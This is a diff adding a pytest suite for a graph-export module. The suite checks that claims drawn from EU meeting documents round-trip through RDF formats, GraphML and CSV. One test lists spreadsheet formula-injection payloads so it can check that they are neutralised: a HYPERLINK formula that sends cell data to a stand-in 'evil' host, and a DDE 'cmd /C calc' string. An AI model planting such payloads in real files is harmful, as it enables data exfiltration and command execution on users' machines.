@@ -1,0 +1,307 @@
+"""Subgraphs to take away: whole, with evidence, and readable by others."""
+
+import csv
+import io
+import json
+import xml.etree.ElementTree as ElementTree
+from collections.abc import Callable
+from pathlib import Path
+
+import networkx as nx
+import pytest
+import rdflib
+from pyoxigraph import (
+    BlankNode,
+    Literal,
+    NamedNode,
+    Quad,
+    RdfFormat,
+    Store,
+    Triple,
+    parse,
+)
+
+from graph.answer import Table
+from graph.errors import ExportError
+from graph.export import FORMATS, Selection, export_claims
+from graph.pool import QueryPool
+from graph.selection import select_subgraph
+from graph.sheets import neutralise, restore, table_to_csv, table_to_json
+from graph.store import StoreWriter
+
+SP = "https://w3id.org/standpunt/ontology#"
+A_CLAIM = "https://w3id.org/standpunt/id/document/aaaaaaaaaaaaaaaa/claim/88-1"
+SPLIT = "https://w3id.org/standpunt/id/document/bbbbbbbbbbbbbbbb/claim/174-1"
+REPORT_GRAPH = "https://w3id.org/standpunt/id/graph/document/bbbbbbbbbbbbbbbb"
+LABEL = Selection(issue="issue:fish-label")
+EVERYTHING = Selection()
+
+
+def triples(content: bytes, form: RdfFormat) -> set[str]:
+    return {str(quad.triple) for quad in parse(content, format=form)}
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_the_same_selection_gives_the_same_bytes(pool: QueryPool, form: str) -> None:
+    content = export_claims(pool, EVERYTHING, form)
+    assert content == export_claims(pool, EVERYTHING, form)
+    assert len(content) > 1000
+
+
+@pytest.mark.parametrize(("form", "rdf"), [("trig", RdfFormat.TRIG), ("nquads", RdfFormat.N_QUADS)])
+def test_named_graphs_come_back_into_an_empty_store_as_they_were(
+    pool: QueryPool, form: str, rdf: RdfFormat
+) -> None:
+    store = Store()
+    store.load(export_claims(pool, EVERYTHING, form), format=rdf)
+    assert set(store) == set(select_subgraph(pool, EVERYTHING).quads)
+    graphs = {str(name) for name in store.named_graphs()}
+    assert f"<{REPORT_GRAPH}>" in graphs
+    assert len(graphs) == 3
+
+
+@pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")
+def test_trig_is_the_same_dataset_to_rdflib(pool: QueryPool) -> None:
+    dataset = rdflib.Dataset()
+    dataset.parse(data=export_claims(pool, EVERYTHING, "trig"), format="trig")
+    back = set(parse(dataset.serialize(format="nquads").encode(), format=RdfFormat.N_QUADS))
+    assert back == set(select_subgraph(pool, EVERYTHING).quads)
+
+
+@pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")
+def test_turtle_and_json_ld_hold_the_same_triples_to_two_readers(pool: QueryPool) -> None:
+    turtle = export_claims(pool, EVERYTHING, "turtle")
+    jsonld = export_claims(pool, EVERYTHING, "jsonld")
+    expected = {str(quad.triple) for quad in select_subgraph(pool, EVERYTHING).quads}
+    assert triples(turtle, RdfFormat.TURTLE) == expected
+    assert triples(jsonld, RdfFormat.JSON_LD) == expected
+    graph = rdflib.Graph().parse(data=turtle, format="turtle")
+    assert set(graph) == set(rdflib.Graph().parse(data=jsonld, format="json-ld"))
+    assert len(graph) == len(expected)
+
+
+def test_an_export_has_no_blank_node_and_no_raw_text(pool: QueryPool) -> None:
+    for quad in select_subgraph(pool, EVERYTHING).quads:
+        assert not isinstance(quad.subject, BlankNode)
+        assert not isinstance(quad.object, BlankNode)
+        assert quad.predicate.value != f"{SP}text"
+
+
+def test_a_claim_takes_everything_that_belongs_to_it_and_no_other_claim(pool: QueryPool) -> None:
+    quads = select_subgraph(pool, Selection(claims=(SPLIT,))).quads
+    subjects = {quad.subject.value for quad in quads if isinstance(quad.subject, NamedNode)}
+    document = "https://w3id.org/standpunt/id/document/bbbbbbbbbbbbbbbb"
+    meeting = "https://w3id.org/standpunt/id/meeting/agrifish-2025-03-24"
+    assert {s for s in subjects if s.startswith((document, meeting))} == {
+        SPLIT,
+        f"{SPLIT}/holders",
+        f"{SPLIT}/evidence",
+        f"{SPLIT}/evidence/span/1",
+        f"{SPLIT}/evidence/span/2",
+        document,
+        f"{document}/run",
+        f"{document}/section/1",
+        meeting,
+        f"{meeting}/item/1",
+    }
+    labels = {
+        quad.object.value
+        for quad in quads
+        if isinstance(quad.object, Literal) and quad.object.language == "en"
+    }
+    assert labels >= {"Germany", "Netherlands", "lower catch quotas", "European Union"}
+
+
+def test_a_selection_by_filters_and_claims(pool: QueryPool) -> None:
+    def claims(selection: Selection) -> list[str]:
+        return [
+            str(row[0]).rpartition("/")[2]
+            for row in select_subgraph(pool, selection).table.plain_rows()
+        ]
+
+    assert claims(LABEL) == ["391-1", "341-1"]
+    assert claims(Selection(actor="ct:DEU")) == ["174-1"]
+    assert claims(Selection(polarity="oppose", meeting="meeting:agrifish-2025-03-24")) == ["235-1"]
+    assert claims(Selection(actor="ct:DEU", possible=True, issue="issue:fish-label")) == ["341-1"]
+    assert claims(Selection(claims=(SPLIT, A_CLAIM))) == ["88-1", "174-1"]
+
+
+def test_a_claim_outside_the_selection_and_an_unknown_format_are_named(pool: QueryPool) -> None:
+    with pytest.raises(ExportError, match="88-1"):
+        export_claims(pool, Selection(issue="issue:fish-label", claims=(A_CLAIM,)), "trig")
+    with pytest.raises(ExportError, match="turtle, trig"):
+        export_claims(pool, LABEL, "xlsx")
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_an_empty_selection_is_an_empty_export(pool: QueryPool, form: str) -> None:
+    content = export_claims(pool, Selection(actor="ct:NOR"), form)
+    assert b"claim/" not in content
+
+
+def test_json_ld_holds_evidence_inside_its_claim(pool: QueryPool) -> None:
+    document = json.loads(export_claims(pool, Selection(claims=(SPLIT,)), "jsonld"))
+    (claim,) = [node for node in document["@graph"] if node["@type"] == "sp:PositionClaim"]
+    assert claim["holderSet"]["namedHolder"] == "ct:DEU"
+    assert claim["holderSet"]["minHolders"] == 1
+    assert claim["evidence"]["quote"] == {"nl": "Dat verzoek werd door Duitsland herhaald"}
+    assert [span["oa:start"] for span in claim["evidence"]["span"]] == [174, 189]
+
+
+# --- GraphML -----------------------------------------------------------------------------------
+
+
+def test_graphml_has_holders_issues_and_claims_with_types(pool: QueryPool) -> None:
+    content = export_claims(pool, EVERYTHING, "graphml")
+    network = nx.read_graphml(io.BytesIO(content), force_multigraph=True)
+    kinds = nx.get_node_attributes(network, "type")
+    assert sorted(kinds.values()) == ["actor"] * 2 + ["group"] * 5 + ["issue"] * 4
+    germany = "http://publications.europa.eu/resource/authority/country/DEU"
+    assert network.nodes[germany] == {
+        "type": "actor",
+        "bipartite": 0,
+        "label": "Germany",
+        "code": "DEU",
+    }
+    ((_, issue, claim),) = network.edges(germany, data=True)
+    assert issue == "https://w3id.org/standpunt/id/issue/lower-quotas"
+    assert claim["claim"] == SPLIT
+    assert (claim["holder"], claim["min"], claim["max"], claim["confidence"]) == (
+        "certain",
+        1,
+        1,
+        0.9,
+    )
+    assert claim["quote"] == "Dat verzoek werd door Duitsland herhaald"
+    assert network.number_of_edges() == 10
+    root = ElementTree.fromstring(content)
+    assert root.tag == "{http://graphml.graphdrawing.org/xmlns}graphml"
+
+
+NASTY = "'\x00\x01\x0b\x0c\ufffe\U0001f41f \u202e<&>\"=1+1"
+
+
+def rename(quads: list[Quad], old: str, new: str) -> list[Quad]:
+    return [
+        Quad(quad.subject, quad.predicate, Literal(new, language="nl"), quad.graph_name)
+        if isinstance(quad.object, Literal) and quad.object.value == old
+        else quad
+        for quad in quads
+    ]
+
+
+@pytest.fixture
+def nasty_pool(tmp_path: Path, tiny_quads: dict[str, list[Quad]]) -> QueryPool:
+    """The small world, with one phrase replaced by what tools choke on."""
+    with StoreWriter(tmp_path / "s") as writer:
+        writer.replace_graphs(
+            {iri: rename(quads, "Andere lidstaten", NASTY) for iri, quads in tiny_quads.items()}
+        )
+        writer.publish()
+    return QueryPool(tmp_path / "s")
+
+
+def test_control_characters_leave_every_export_readable(nasty_pool: QueryPool) -> None:
+    with nasty_pool as pool:
+        selection = Selection(polarity="support", issue="issue:fishing-zone")
+        network = nx.read_graphml(io.BytesIO(export_claims(pool, selection, "graphml")))
+        assert "'\ufffd\ufffd\ufffd\ufffd\ufffd\U0001f41f \u202e<&>\"=1+1" in {
+            node["label"] for _, node in network.nodes(data=True)
+        }
+        expected = {str(quad.triple) for quad in select_subgraph(pool, selection).quads}
+        readers: dict[str, Callable[[bytes], set[str]]] = {
+            "turtle": lambda content: triples(content, RdfFormat.TURTLE),
+            "jsonld": lambda content: triples(content, RdfFormat.JSON_LD),
+            "trig": lambda content: triples(content, RdfFormat.TRIG),
+        }
+        for form, read in readers.items():
+            assert read(export_claims(pool, selection, form)) == expected
+
+
+# --- CSV ----------------------------------------------------------------------------------------
+
+
+def test_csv_has_a_row_a_claim_with_its_evidence(pool: QueryPool) -> None:
+    content = export_claims(pool, LABEL, "csv").decode()
+    rows = list(csv.DictReader(io.StringIO(content, newline="")))
+    assert [(row["holders"], row["min"], row["spans"], row["fileName"]) for row in rows] == [
+        ("NLD", "1", "391-454", "agenda.txt"),
+        ("", "4", "341-415", "report.txt"),
+    ]
+    assert rows[1]["quote"].startswith("Alle lidstaten op Hongarije na")
+    assert rows[1]["sha256"] == "b" * 64
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil/?x="&A1,"c")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "'=1",
+        "''-1",
+    ],
+)
+def test_a_formula_is_neutralised_and_can_be_restored(cell: str) -> None:
+    assert neutralise(cell) == "'" + cell
+    assert restore(neutralise(cell)) == cell
+
+
+@pytest.mark.parametrize(
+    "cell", ["-2", "+0.5", "-1e-5", "text", "", "a=b", "'s-Gravenhage", "'quoted'"]
+)
+def test_numbers_and_plain_text_stay(cell: str) -> None:
+    assert neutralise(cell) == restore(cell) == cell
+
+
+# --- tables --------------------------------------------------------------------------------------
+
+IRI = NamedNode("https://example.org/x")
+XSD_DATE = NamedNode("http://www.w3.org/2001/XMLSchema#date")
+TABLE = Table(
+    columns=("a", "b"),
+    rows=(
+        (IRI, Literal("=1", language="nl")),
+        (Literal("2026-01-22", datatype=XSD_DATE), None),
+        (BlankNode("n"), Literal('x"\r\n,')),
+        (Triple(IRI, IRI, IRI), Literal("")),
+    ),
+    truncated=False,
+    generation=1,
+    elapsed_s=0.0,
+)
+
+
+def test_a_table_as_csv_with_and_without_safety() -> None:
+    rest = '2026-01-22,\r\nn,"x""\r\n,"\r\n<https://example.org/x> <https://example.org/x> '
+    rest += "<https://example.org/x>,\r\n"
+    assert table_to_csv(TABLE) == f"a,b\r\nhttps://example.org/x,'=1\r\n{rest}"
+    raw = table_to_csv(TABLE, spreadsheet_safe=False)
+    assert raw == f"a,b\r\nhttps://example.org/x,=1\r\n{rest}"
+
+
+def test_a_table_as_sparql_json() -> None:
+    uri = {"type": "uri", "value": "https://example.org/x"}
+    assert json.loads(table_to_json(TABLE)) == {
+        "head": {"vars": ["a", "b"]},
+        "results": {
+            "bindings": [
+                {"a": uri, "b": {"type": "literal", "value": "=1", "xml:lang": "nl"}},
+                {"a": {"type": "literal", "value": "2026-01-22", "datatype": XSD_DATE.value}},
+                {
+                    "a": {"type": "bnode", "value": "n"},
+                    "b": {"type": "literal", "value": 'x"\r\n,'},
+                },
+                {
+                    "a": {
+                        "type": "triple",
+                        "value": {"subject": uri, "predicate": uri, "object": uri},
+                    },
+                    "b": {"type": "literal", "value": ""},
+                },
+            ]
+        },
+    }
